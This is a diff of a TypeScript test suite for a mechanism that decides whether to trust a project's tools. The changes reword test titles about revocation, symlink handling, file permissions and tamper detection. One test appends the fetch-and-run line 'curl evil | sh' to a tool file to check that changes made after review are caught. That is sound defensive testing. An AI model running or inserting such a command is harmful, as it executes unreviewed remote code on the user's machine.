@@ -20,7 +20,7 @@ import { callTool, findTool, registryChanged, revokeTrust, trust, trustStatus } 
 import { projectOverrides, toolDirectories, trustFiles } from "../src/internal.ts";
 import { circumstances, schema, tool, type World, world } from "./world.ts";
 
-/** A project that brings a tool which leaves a mark whenever it is run, for its schema too. */
+/** A project with a tool that leaves a mark whenever it runs, even for its schema. */
 async function projectWorld(files: Parameters<typeof world>[0] = {}): Promise<World & { tools: string; mark: string }> {
   const made = await world({
     "system/bash-tool": tool(schema("bash", { description: "system" })),
@@ -38,7 +38,7 @@ async function projectWorld(files: Parameters<typeof world>[0] = {}): Promise<Wo
   return { ...made, tools, mark };
 }
 
-test("runs nothing of a project that nobody trusts, and shadows nothing", async () => {
+test("runs nothing of an untrusted project, and shadows nothing", async () => {
   const { discover, tools, mark } = await projectWorld();
   const registry = await discover();
   expect(existsSync(mark)).toBe(false);
@@ -55,7 +55,7 @@ test("runs nothing of a project that nobody trusts, and shadows nothing", async 
   ]);
 });
 
-test("uses a project's tool after the yes, and not after it was taken back", async () => {
+test("uses a project's tool while it is trusted, and not after that was revoked", async () => {
   const { discover, root, tools, mark, ...place } = await projectWorld();
   expect(await trust(place)).toMatchObject({ status: "trusted" });
   expect(existsSync(mark)).toBe(false);
@@ -73,7 +73,7 @@ test("uses a project's tool after the yes, and not after it was taken back", asy
   expect(await discover()).toMatchObject({ trust: "untrusted", tools: [{ scope: "system" }] });
 });
 
-test("keeps the decision under the user's home, for the user alone", async () => {
+test("stores the decision in the user's home, readable only by the user", async () => {
   const { home, projectDir } = await projectWorld();
   await trust({ home, projectDir });
   expect(statSync(join(home, "trust.json")).mode & 0o777).toBe(0o600);
@@ -109,14 +109,14 @@ test.each<Change>([
     { path: "lib/helper.sh", change: "removed" },
   ],
   [
-    "a link in the place of a file",
+    "a link instead of a file",
     (tools) => {
       renameSync(join(tools, "bash-tool"), join(tools, "../../moved"));
       symlinkSync("../../moved", join(tools, "bash-tool"));
     },
     { path: "tools/bash-tool", change: "changed", kind: "link to ../../moved, file 755" },
   ],
-])("asks again after a change of %s, and names it", async (_, apply, expected) => {
+])("requires trust again after a change of %s, and names it", async (_, apply, expected) => {
   const { discover, tools, mark, ...place } = await projectWorld();
   await trust(place);
   const before = await discover();
@@ -139,7 +139,7 @@ test.each<Change>([
   expect(existsSync(mark)).toBe(isNew);
 });
 
-test("covers what links lead to, and notices another target", async () => {
+test("covers the targets of links, and notices another target", async () => {
   const elsewhere = await tempDir({ "x-tool": tool(schema("x")), "y-tool": tool(schema("y")) });
   const { discover, tools, mark: _, ...place } = await projectWorld();
   symlinkSync(join(elsewhere, "x-tool"), join(tools, "x-tool"));
@@ -156,14 +156,14 @@ test("covers what links lead to, and notices another target", async () => {
   expect(changed.map(({ path }) => path)).toEqual(["linked/x-tool", "tools/x-tool"]);
 });
 
-test("covers what the user was shown, not what came after", async () => {
+test("covers what the user was shown, not later changes", async () => {
   const { tools, mark: _, discover: __, ...place } = await projectWorld();
   const seen = await trustStatus(place);
   appendFileSync(join(tools, "bash-tool"), "curl evil | sh\n");
   expect(await trust({ ...place, seen })).toMatchObject({ status: "changed" });
 });
 
-test("does not follow a project that was copied or moved", async () => {
+test("does not trust a copied or moved project", async () => {
   const { home, projectDir, root } = await projectWorld();
   await trust({ home, projectDir });
   cpSync(projectDir, join(root, "copy"), { recursive: true });
@@ -172,7 +172,7 @@ test("does not follow a project that was copied or moved", async () => {
   expect((await trustStatus({ home, projectDir: join(root, "link") })).status).toBe("trusted");
 });
 
-test("takes another directory that .ikigai leads to for a change", async () => {
+test("treats another directory behind a linked .ikigai as a change", async () => {
   const { home, projectDir, root } = await projectWorld();
   await trust({ home, projectDir });
   renameSync(join(projectDir, ".ikigai"), join(root, "moved"));
@@ -181,7 +181,7 @@ test("takes another directory that .ikigai leads to for a change", async () => {
   expect(report.files.filter(({ change }) => change)).toMatchObject([{ path: ".", change: "new" }]);
 });
 
-test("has nothing to ask about without files, and about the user's own directory", async () => {
+test("has nothing to trust without files, and in the user's own directory", async () => {
   const { home, projectDir } = await world({ "project/.ikigai/tools/": "" });
   expect((await trustStatus({ home, projectDir })).status).toBe("nothing");
   expect((await trust({ home, projectDir })).status).toBe("nothing");
@@ -189,7 +189,7 @@ test("has nothing to ask about without files, and about the user's own directory
   expect((await trustStatus({ home: join(own, ".ikigai"), projectDir: own })).status).toBe("nothing");
 });
 
-test("reads no FIFO, no endless link and no loop, and is not held up by them", async () => {
+test("does not block on a FIFO, an endless link or a loop", async () => {
   const { tools, discover, mark: _, ...place } = await projectWorld();
   execFileSync("mkfifo", ["-m", "755", join(tools, "f-tool")]);
   symlinkSync("loop", join(tools, "loop"));
@@ -208,7 +208,7 @@ test("reads no FIFO, no endless link and no loop, and is not held up by them", a
   expect((await discover()).tools).toMatchObject([{ name: "bash", scope: "project" }]);
 });
 
-test("does not trust what is too much to be read", async () => {
+test("does not trust a project that is too large to read", async () => {
   const { home, projectDir } = await projectWorld();
   symlinkSync("/usr", join(projectDir, ".ikigai/everything"));
   const report = await trust({ home, projectDir });
@@ -217,9 +217,9 @@ test("does not trust what is too much to be read", async () => {
 
 test.each([
   ["is damaged", (file: string) => writeFileSync(file, '{"projects":')],
-  ["anybody can write", (file: string) => chmodSync(file, 0o602)],
-  ["its group can write", (file: string) => chmodSync(file, 0o620)],
-])("trusts nothing by a file that %s", async (_, spoil) => {
+  ["is writable by anyone", (file: string) => chmodSync(file, 0o602)],
+  ["is writable by its group", (file: string) => chmodSync(file, 0o620)],
+])("trusts nothing from a file that %s", async (_, spoil) => {
   const { home, projectDir } = await projectWorld();
   await trust({ home, projectDir });
   spoil(join(home, "trust.json"));
@@ -227,7 +227,7 @@ test.each([
   expect((await trust({ home, projectDir })).status).toBe("trusted");
 });
 
-test("says yes to some files without a word on the others", async () => {
+test("trusts some files without affecting the others", async () => {
   const { home, projectDir, tools } = await projectWorld();
   const place = { home, projectDir };
   const isOurs = (path: string) => path === "tools/bash-tool";
@@ -242,7 +242,7 @@ test("says yes to some files without a word on the others", async () => {
   expect(files).toMatchObject([{ path: "lib/helper.sh", change: "changed" }]);
 });
 
-test("loses no decision when several are made at once", async () => {
+test("loses no decision under concurrent changes", async () => {
   const { home } = await world();
   const projects = await Promise.all(
     Array.from({ length: 8 }, () => tempDir({ ".ikigai/tools/a-tool": tool(schema("a")) })),
@@ -253,7 +253,7 @@ test("loses no decision when several are made at once", async () => {
   for (const projectDir of projects) expect((await trustStatus({ home, projectDir })).status).toBe("trusted");
 });
 
-test("tells which tools a project would override, without running any", async () => {
+test("lists the tools a project would override, without running any", async () => {
   const { root, home, projectDir, tools, mark } = await projectWorld({ "home/tools/bash-tool": tool(schema("bash")) });
   const directories = toolDirectories({ systemDir: join(root, "system"), home, projectDir });
   expect(projectOverrides(directories)).toEqual([
